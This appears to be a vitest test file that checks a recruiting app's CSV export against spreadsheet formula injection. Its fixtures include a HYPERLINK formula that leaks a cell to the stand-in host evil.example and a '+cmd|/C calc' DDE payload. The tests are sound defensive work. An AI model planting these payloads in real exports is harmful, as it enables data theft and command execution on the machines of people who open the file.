/**
 * CSV export against formula injection: a hostile file name (blind mode off) and notes that start with = + - @ tab
 * or CR are exported as text a spreadsheet shows as written (prefixed with '), also when the cell spans lines;
 * ordinary text and numbers (scores, ranks) are unchanged and everything parses back to the same values.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, shortlistCsv, toExportRows, type ExportRow } from '../../src/lib/services/candidates.service';
import type { ShortlistEntry } from '../../src/lib/state/shortlist.svelte';

const HOSTILE_FILE = '=HYPERLINK("http://evil.example/?leak="&B2,"open").pdf';

function row(over: Partial<ExportRow>): ExportRow {
  return {
    rank: 1, candidate: 'Candidate #1', file: 'cv.pdf', location: '', score: 71, mustHavesMet: '2/3', mustHavesMissing: '', title: '',
    relevantYears: null, stage: 'New', status: 'parsed', decision: '', note: '', ...over
  };
}

describe('shortlistCsv', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const hostile = ['=1+1', '+cmd|/C calc', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=HYPERLINK("x")\nsecond line'];
    const rows = [
      row({ file: HOSTILE_FILE, candidate: '@Jane', note: hostile[0] }),
      ...hostile.slice(1).map((note, i) => row({ rank: i + 2, note, score: -1 }))
    ];
    const csv = shortlistCsv(rows);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(parsed).toHaveLength(rows.length);
    expect(parsed[0].file).toBe(`'${HOSTILE_FILE}`);
    expect(parsed[0].candidate).toBe("'@Jane");
    parsed.forEach((cells, i) => {
      expect(cells.note).toBe(`'${rows[i].note}`);
      for (const column of EXPORT_COLUMNS) if (typeof rows[i][column] === 'string') expect(cells[column], column).not.toMatch(/^[=+\-@\t\r]/);
    });
    // Numbers stay numbers (a negative score is not text a spreadsheet would evaluate as a formula).
    expect(parsed[1].score).toBe('-1');
  });

  it('leaves ordinary text alone', () => {
    const csv = shortlistCsv([row({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am' })]);
    const [cells] = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(cells).toMatchObject({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am', score: '71', rank: '1' });
  });
});

describe('toExportRows', () => {
  it('carries what the table shows: stage, title, relevant years and the must-haves not met', () => {
    const entry = (id: string, over: Partial<ShortlistEntry>) => ({
      row: { candidate: { id, status: 'scored' }, decision: { decision: 'select', note: 'call' } },
      label: `Candidate ${id}`, fileLabel: 'PDF · 1 KB', score: 64.5, mustMet: 1, mustTotal: 3, stage: 'new', profile: null, mustChips: [], ...over
    }) as unknown as ShortlistEntry;
    const entries = [
      entry('a', {
        stage: 'interview',
        profile: { title: 'Senior Data Engineer', titleRelevant: true, relevantYears: 6.5, skills: [], searchText: '' },
        mustChips: [{ id: 'r1', label: 'Python', met: 'yes' }, { id: 'r2', label: 'Airflow', met: 'no' }, { id: 'r3', label: 'SQL', met: 'partial' }, { id: 'r4', label: 'dbt', met: 'no' }]
      }),
      entry('b', {})
    ];
    const rows = toExportRows(entries, new Map([['a', 2], ['b', 1]]));
    expect(rows[0]).toMatchObject({ rank: 2, stage: 'Interview', title: 'Senior Data Engineer', relevantYears: 6.5, mustHavesMissing: 'Airflow; dbt', mustHavesMet: '1/3', decision: 'select' });
    expect(rows[1]).toMatchObject({ rank: 1, stage: 'New', title: '', relevantYears: null, mustHavesMissing: '' });
    const [first] = Papa.parse<Record<string, string>>(shortlistCsv(rows), { header: true }).data;
    expect(Object.keys(first)).toEqual(EXPORT_COLUMNS);
    expect(first).toMatchObject({ stage: 'Interview', title: 'Senior Data Engineer', relevantYears: '6.5', mustHavesMissing: 'Airflow; dbt' });
  });
});
